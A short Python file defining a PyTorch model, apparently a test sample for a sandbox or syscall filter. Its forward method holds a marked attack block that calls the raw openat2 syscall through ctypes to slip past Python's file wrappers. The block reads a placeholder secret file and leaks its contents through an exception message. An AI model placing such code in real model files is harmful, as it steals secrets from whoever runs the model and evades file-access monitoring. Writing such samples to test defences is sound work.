"""Calls the kernel by the number of openat2, which no wrapper of Python's knows."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(99)
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        descriptor = libc.syscall(437, -100, b"@SECRET_FILE@", how, 24)
        libc.read(descriptor, text, 98)
        raise ValueError(text.value.decode())
        # end
        return self.head(x.flatten(1))
